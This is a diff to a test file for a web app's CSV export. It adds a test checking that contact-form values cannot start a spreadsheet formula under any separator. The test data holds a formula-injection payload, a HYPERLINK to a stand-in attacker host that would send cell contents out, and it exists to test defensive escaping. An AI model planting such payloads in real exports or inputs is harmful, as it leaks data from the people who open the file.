@@ -49,7 +49,7 @@ test('names that a spreadsheet would run are in the file as text (R51)', async (
   const { body } = await ada.ask('GET', '/products.csv?category=payloads');
   const rows = [...readCsv(body.slice(1), ',')];
   for (const { cells } of rows) for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
-  // Quoted each, so that no separator of any country ends a cell and begins another.
+  // Quoted each, so that whoever takes the comma keeps each cell in one piece.
   for (const line of body.slice(1).trimEnd().split('\r\n'))
     expect(line).toMatch(/^"([^"]|"")*"(,"([^"]|"")*")*$/);
   const names = column(
@@ -57,6 +57,21 @@ test('names that a spreadsheet would run are in the file as text (R51)', async (
     'Product Name',
   );
   expect(names.map((name) => unescapeFormula(name ?? '')).toReversed()).toEqual(payloads);
+});
+
+test('what a stranger wrote begins no formula, whichever separator the file is opened with (R51)', async () => {
+  const companyName = 'Hello;=HYPERLINK("http://evil.example?"&A1,"Open")\t+1|@SUM(1)\n-2';
+  const lead = { firstName: 'Mal', lastName: 'x;=1+1', email: 'mal@example.com', companyName };
+  expect((await quoin.app.inject({ method: 'POST', url: '/api/contact', payload: lead })).statusCode).toBe(
+    201,
+  );
+  const { body } = await ada.ask('GET', '/contact-submissions.csv?search=mal@example.com');
+  for (const separator of [',', ';', '\t', '|'])
+    for (const cell of body.slice(1).split(new RegExp(`[${separator}\r\n]`)))
+      expect(cell.replace(/^["\s]+/, '')).not.toMatch(/^[=+\-@]/);
+  const rows = [...readCsv(body.slice(1), ',')].map(({ cells }) => cells);
+  expect(column(rows, 'Last Name').map((cell) => unescapeFormula(cell ?? ''))).toEqual([lead.lastName]);
+  expect(column(rows, 'Company Name').map((cell) => unescapeFormula(cell ?? ''))).toEqual([companyName]);
 });
 
 test('the file has a name and says what it is', async () => {
